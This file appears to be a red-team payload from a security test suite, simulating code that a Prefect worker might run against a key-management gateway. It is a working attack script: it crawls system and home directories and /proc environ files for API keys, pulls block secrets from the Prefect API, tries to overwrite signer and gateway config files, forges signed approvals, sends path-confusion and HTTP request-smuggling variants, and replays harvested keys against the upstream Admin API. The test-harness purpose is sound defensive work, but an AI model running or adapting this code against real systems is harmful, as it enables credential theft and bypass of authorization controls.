"""What an attacker's code does once Prefect executes it as the worker. Standard library only.

    python payload.py NAME          NAME: the way in which it was executed

Each payload of `tests.proofs.prefect_attacks` contains this whole file. It does the worst that the
worker's user can: it reads every file that it may, collects every signed approval and everything
that looks like a credential, and sends attaches and creates to the gateway and directly to the
Admin API. It writes as JSON what it tried, and what it could do but must not.
"""

import base64
import contextlib
import http.client
import itertools
import json
import os
import re
import socket
import subprocess
import sys
import tempfile
import urllib.parse
from collections.abc import Iterator
from pathlib import Path
from typing import Any

PLACE = Path("/run/cmek-test/red")
SECRET = re.compile(rb"sk-ant-[A-Za-z0-9_-]{8,}")
PLACES = ("/etc", "/var/lib", "/home", "/root", "/run", "/tmp", "/proc")  # noqa: S108
TOO_LONG = 4_000_000
MANY_SECRETS = 40
SAMPLED = 13


class Attack:
    """One execution, and its results."""

    def __init__(self, name: str) -> None:
        self.name = name
        self.tries = 0
        self.files = 0
        self.problems: list[str] = []
        self.secrets: set[str] = set()
        self.answers: dict[str, int] = {}
        seen = json.loads((PLACE / "seen.json").read_text())
        self.gateway, self.upstream = seen["gateway"], seen["upstream"]
        self.own_key: str = seen["own_key"]
        self.approvals: list[str] = seen["approvals"]

    def send(
        self, address: str, method: str, path: str, body: object = None, **headers: str
    ) -> dict[str, Any]:
        """Send one request that must not attach anything; returns the JSON of its answer."""
        self.tries += 1
        where = urllib.parse.urlsplit(address)
        connection = http.client.HTTPConnection(str(where.hostname), where.port, timeout=60)
        given = {"anthropic-version": "2023-06-01"}
        given |= {name.replace("_", "-"): value for name, value in headers.items()}
        content = body if isinstance(body, bytes | None) else json.dumps(body).encode()
        if content is not None:
            given.setdefault("content-type", "application/json")
        try:
            connection.request(method, path, content, given)
            answer = connection.getresponse()
            text = answer.read()
            said = f"{method} {answer.status}"
            self.answers[said] = self.answers.get(said, 0) + 1
            found: dict[str, Any] = json.loads(text)
        except (OSError, ValueError, http.client.HTTPException) as error:
            said = f"{method} {type(error).__name__}"
            self.answers[said] = self.answers.get(said, 0) + 1
            return {}
        else:
            return found
        finally:
            connection.close()

    def read_everything(self) -> None:
        """Read every file in which a credential could be, if this user may."""
        for place in PLACES:
            for folder, _, names in os.walk(place, onerror=lambda _: None):
                for name in names:
                    self._read(Path(folder) / name)

    def _read(self, path: Path) -> None:
        if str(path).startswith("/proc") and path.name not in {"environ", "cmdline"}:
            return
        with contextlib.suppress(OSError):
            if not path.is_file():
                return
            with path.open("rb") as file:
                content = file.read(TOO_LONG)
            self.files += 1
            self.secrets |= {one.decode() for one in SECRET.findall(content)}
            if "cmek-gateway" in path.parts:
                self.problems.append(f"{path} can be read by uid {os.getuid()}")

    def write_where_it_must_not(self) -> None:
        """Try to write to the files that decide who may attach."""
        for path in (
            "/etc/cmek/allowed_signers",
            "/etc/cmek/minimum_signatures",
            "/etc/cmek/allowed_hosts",
            "/etc/cmek-gateway/gateway.toml",
            "/etc/cmek-gateway/admin_key",
            "/var/lib/cmek-gateway/journal.sqlite",
            "/opt/cmek/gateway/rules.py",
        ):
            self.tries += 1
            with contextlib.suppress(OSError), Path(path).open("ab"):
                self.problems.append(f"{path} can be written by uid {os.getuid()}")

    def ask_prefect(self) -> None:
        """Read the secrets of all blocks, which the API shows to every user of it."""
        address = os.environ.get("PREFECT_API_URL", "http://127.0.0.1:4200/api")
        login = os.environ.get("PREFECT_API_AUTH_STRING", "")
        self.secrets |= {login} if SECRET.match(login.encode()) else set()
        found = self.send(
            address,
            "POST",
            "/api/block_documents/filter",
            {"include_secrets": True},
            authorization="Basic " + base64.b64encode(login.encode()).decode(),
        )
        self.secrets |= {one.decode() for one in SECRET.findall(json.dumps(found).encode())}

    def forged(self) -> list[str]:
        """Approvals that no approver has signed: altered, signed with another key, or empty."""
        made = ["", "please"]
        with tempfile.TemporaryDirectory() as scratch:
            key = Path(scratch) / "key"
            self._ssh("-q", "-t", "ed25519", "-N", "", "-f", str(key))
            for text in self.approvals:
                said, _, armored = text.strip().partition("\n")
                statement = json.loads(said)
                for change in self._changes(statement):
                    altered = json.dumps(statement | change, sort_keys=True, separators=(",", ":"))
                    made.append(f"{altered}\n{armored}\n")
                    by_own_key = ("-Y", "sign", "-n", "cmek-approval", "-f", str(key))
                    signed = self._ssh(*by_own_key, said=altered)
                    made.append(f"{altered}\n{signed}")
                made.append(f"{said}\n{armored}\n{said}\n{armored}\n")
        return made

    def _changes(self, statement: dict[str, Any]) -> list[dict[str, Any]]:
        return [
            {},
            *({"workspace_id": one} for one in self.workspaces),
            *({"external_key_id": one} for one in self.keys),
            {"workspace_id": self.workspaces[-1], "external_key_id": self.keys[-1]},
            {"approver": "eve@example.com"},
            {"expires_at": "2036-01-01T00:00:00Z", "nonce": "0" * len(statement["nonce"])},
        ]

    def _ssh(self, *arguments: str, said: str = "") -> str:
        done = subprocess.run(
            ["/usr/bin/ssh-keygen", *arguments],
            input=said.encode(),
            capture_output=True,
            check=False,
        )
        return done.stdout.decode()

    def look_around(self) -> None:
        """Register a key of the attacker's own, and list workspaces and external keys."""
        base = "/v1/organizations"
        found = self.send(self.gateway, "GET", f"{base}/workspaces?limit=100").get("data", [])
        self.workspaces = [one["id"] for one in found if not one["external_key_id"]]
        own = {
            "display_name": f"mine {self.name}"[:40],
            "geo": "us",
            "provider_config": {"type": "gcp", "key_name": self.own_key},
        }
        self.send(self.gateway, "POST", f"{base}/external_keys", own)
        keys = self.send(self.gateway, "GET", f"{base}/external_keys?limit=100").get("data", [])
        self.keys = [one["id"] for one in keys]

    def attach_through_the_gateway(self) -> None:
        """Try each workspace, key and approval, then the same requests in other forms."""
        base = "/v1/organizations/workspaces"
        forged = self.forged()
        approvals = [*self.approvals, *forged, "\n".join(self.approvals)]
        pairs = list(itertools.product(self.workspaces, self.keys))
        for number, (text, (workspace, key)) in enumerate(itertools.product(approvals, pairs)):
            if text in forged and number % SAMPLED:
                continue  # each kind still meets several pairs, and each pair several kinds
            self._ask("POST", f"{base}/{workspace}", {"external_key_id": key}, text)
        for text in approvals[:6]:
            for fields in self._creations():
                self._ask("POST", base, fields, text)
        for method, path, body in self._other_words(base):
            for text in ("", *self.approvals):
                self._ask(method, path, body, text)

    def _ask(self, method: str, path: str, body: object, approvals: str) -> None:
        encoded = base64.b64encode(approvals.encode()).decode()
        self.send(self.gateway, method, path, body, cmek_signed_approvals=encoded)

    def _creations(self) -> Iterator[dict[str, Any]]:
        for key in self.keys:
            yield {"name": "mine", "external_key_id": key}
            yield {"name": "mine", "external_key_id": key, "tags": {"cmek-run": self.name}}

    def _other_words(self, base: str) -> Iterator[tuple[str, str, object]]:
        workspace, key = self.workspaces[0], self.keys[0]
        wanted = {"external_key_id": key}
        for method in ("PUT", "PATCH", "DELETE", "OPTIONS"):
            yield method, f"{base}/{workspace}", wanted
        for path in (
            f"{base}/{workspace}/",
            f"{base}/./{workspace}",
            f"{base}/x/../{workspace}",
            f"{base}/{workspace}?x=1",
            f"{base}%2f{workspace}",
            f"/{base}/{workspace}",
            f"{base}/{workspace};x",
            f"{base}/{workspace}/archive",
            f"{self.upstream}{base}/{workspace}",
        ):
            yield "POST", path, wanted
        tags = {"tags": {"cmek-evidence": "a" * 64}}
        yield "POST", f"{base}/{workspace}", wanted | tags
        yield "POST", f"{base}/{workspace}", [wanted]
        yield "POST", f"{base}/{workspace}", {"external_key_id": [key]}
        text = json.dumps(wanted)[1:-1]
        yield "POST", f"{base}/{workspace}", ("{" + f"{text},{text}" + "}").encode()
        yield "POST", f"{base}/{workspace}", ("{" + f'{text},"\\u0074ags":{{}}' + "}").encode()

    def smuggle(self) -> None:
        """Request smuggling: two requests in one, which two parsers may divide differently."""
        where = urllib.parse.urlsplit(self.gateway)
        body = json.dumps({"external_key_id": self.keys[0]})
        path = f"/v1/organizations/workspaces/{self.workspaces[0]}"
        inner = (
            f"POST {path} HTTP/1.1\r\nHost: 127.0.0.1\r\n"
            f"Content-Type: application/json\r\nContent-Length: {len(body)}\r\n\r\n{body}"
        )
        for framing in (
            f"Content-Length: 0\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{inner}",
            f"Content-Length: 0\r\nContent-Length: {len(inner)}\r\n\r\n{inner}",
            f"Content-Length: 0\r\n\r\n{inner}",
        ):
            self.tries += 1
            text = f"GET /v1/organizations/me HTTP/1.1\r\nHost: 127.0.0.1\r\n{framing}"
            with (
                contextlib.suppress(OSError),
                socket.create_connection((where.hostname, where.port), 10) as raw,
            ):
                raw.sendall(text.encode())
                raw.shutdown(socket.SHUT_WR)
                while raw.recv(65536):
                    pass

    def attach_past_the_gateway(self) -> None:
        """Call the Admin API directly, without a credential and with all that look like one."""
        path = f"/v1/organizations/workspaces/{self.workspaces[0]}"
        body = {"external_key_id": self.keys[0]}
        self.send(self.upstream, "POST", path, body)
        for secret in sorted(self.secrets)[:MANY_SECRETS]:
            self.send(self.upstream, "POST", path, body, x_api_key=secret)
            self.send(self.upstream, "POST", path, body, authorization=f"Bearer {secret}")

    def leave(self) -> None:
        """Write the results for the proof; renamed last, so that it never reads half a file."""
        found = {
            "uid": os.getuid(),
            "tries": self.tries,
            "files": self.files,
            "answers": self.answers,
            "problems": sorted(set(self.problems)),
        }
        partial = PLACE / f"{self.name}.partial"
        partial.write_text(json.dumps(found))
        partial.chmod(0o644)
        partial.rename(PLACE / f"{self.name}.done")


def do_the_worst(name: str) -> None:
    """Do all steps, once for each way in which this is executed."""
    started = PLACE / f"{name}.started"
    try:
        started.touch(exist_ok=False)
    except FileExistsError:
        return
    attack = Attack(name)
    for step in (
        attack.read_everything,
        attack.write_where_it_must_not,
        attack.ask_prefect,
        attack.look_around,
        attack.attach_through_the_gateway,
        attack.smuggle,
        attack.attach_past_the_gateway,
    ):
        try:
            step()
        except Exception as error:  # noqa: BLE001 - the others are tried all the same
            attack.problems.append(f"{step.__name__} broke: {type(error).__name__}: {error}")
    attack.leave()


if __name__ == "__main__":
    do_the_worst(sys.argv[1])
